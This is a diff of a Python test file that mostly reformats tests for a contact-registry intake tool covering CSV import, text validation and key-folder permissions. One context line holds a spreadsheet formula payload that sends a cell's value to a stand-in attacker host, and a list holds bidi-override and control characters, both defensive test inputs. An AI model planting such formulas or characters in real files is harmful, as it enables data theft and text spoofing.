@@ -26,10 +26,23 @@ EVIL_PHONE = '=HYPERLINK("http://evil.example/?x="&B2,"Call")'
 
 
 def row(**entry) -> dict:
-    e = {"state": "DEU", "kind": "technical", "organisation": "Example CSIRT", "emails": ["cert@example.org"],
-         "holder_epoch": "1763800000000-0000"} | entry
-    return {"key": "DEU/technical", "entry": e, "origin": "eu", "hlc": "1763800000000-0000",
-            "cs_id": "sha256:" + "0" * 64, "index": 0, "seq": 1, "author": "staff@eu"}
+    e = {
+        "state": "DEU",
+        "kind": "technical",
+        "organisation": "Example CSIRT",
+        "emails": ["cert@example.org"],
+        "holder_epoch": "1763800000000-0000",
+    } | entry
+    return {
+        "key": "DEU/technical",
+        "entry": e,
+        "origin": "eu",
+        "hlc": "1763800000000-0000",
+        "cs_id": "sha256:" + "0" * 64,
+        "index": 0,
+        "seq": 1,
+        "author": "staff@eu",
+    }
 
 
 def csv_cells(rows: list[dict]) -> list[dict]:
@@ -65,8 +78,16 @@ def test_case4_no_cell_of_any_value_starts_a_formula(text: str, items: list[str]
 
 
 # --- case 13 --------------------------------------------------------------------------------
-BAD_TEXT = ["nul\x00x", "bidi \u202eevil", "isolate \u2066x\u2069y", "line\u2028sep", "nel\u0085x", "bell\x07x",
-            "para\u2029x", "del\x7fx"]
+BAD_TEXT = [
+    "nul\x00x",
+    "bidi \u202eevil",
+    "isolate \u2066x\u2069y",
+    "line\u2028sep",
+    "nel\u0085x",
+    "bell\x07x",
+    "para\u2029x",
+    "del\x7fx",
+]
 
 
 @pytest.mark.parametrize("bad", BAD_TEXT)
@@ -82,8 +103,9 @@ def test_case13_origin_refuses_forbidden_free_text(bad: str) -> None:
 
 def test_case13_allowed_free_text() -> None:
     e = {k: v for k, v in row()["entry"].items() if k != "holder_epoch"}
-    ok, _ = intake.validate_entry(e | {"notes": "line one\nline two", "organisation": "وزارة\u200f الخارجية"},
-                                  today_iso="2025-11-22")
+    ok, _ = intake.validate_entry(
+        e | {"notes": "line one\nline two", "organisation": "وزارة\u200f الخارجية"}, today_iso="2025-11-22"
+    )
     assert ok["notes"] == "line one\nline two"
     with pytest.raises(EntryError):
         intake.validate_entry(e | {"organisation": "two\nlines"}, today_iso="2025-11-22")
@@ -146,8 +168,13 @@ def test_case12_key_folders_are_0700_under_umask_000(tmp_path: Path) -> None:
         run("init", "--node", "eu", "--data", tmp_path / "n" / "eu")
     finally:
         os.umask(old)
-    for d in (tmp_path / "a", tmp_path / "a" / "sub", tmp_path / "n", tmp_path / "n" / "eu",
-              tmp_path / "n" / "eu" / "keys"):
+    for d in (
+        tmp_path / "a",
+        tmp_path / "a" / "sub",
+        tmp_path / "n",
+        tmp_path / "n" / "eu",
+        tmp_path / "n" / "eu" / "keys",
+    ):
         assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
     assert stat.S_IMODE((tmp_path / "a" / "sub" / "root.key").stat().st_mode) == 0o600
     assert stat.S_IMODE((tmp_path / "a" / "sub" / "root.pub").stat().st_mode) == 0o644
@@ -167,8 +194,10 @@ def test_case11_huge_csv_cell_is_one_clear_line(tmp_path: Path) -> None:
 
     fed = LocalFederation(tmp_path / "fed", nodes=("eu",))
     src = tmp_path / "big.csv"
-    src.write_text("state,kind,organisation,emails\nDEU,technical,\"" + "x" * 140_000 + "\",a@example.org\n")
+    src.write_text('state,kind,organisation,emails\nDEU,technical,"' + "x" * 140_000 + '",a@example.org\n')
     res = run("entry", "import", "--data", fed.data("eu"), "--adapter", "csv", src, ok=False)
     assert res.exit_code == 2
     assert "Traceback" not in res.output and "longer than the 1000 allowed" in res.output, res.output
-    assert "nothing was committed" in res.output and fed.export("eu") == b""  # one message (rich wraps it at the terminal width)
+    assert (
+        "nothing was committed" in res.output and fed.export("eu") == b""
+    )  # one message (rich wraps it at the terminal width)
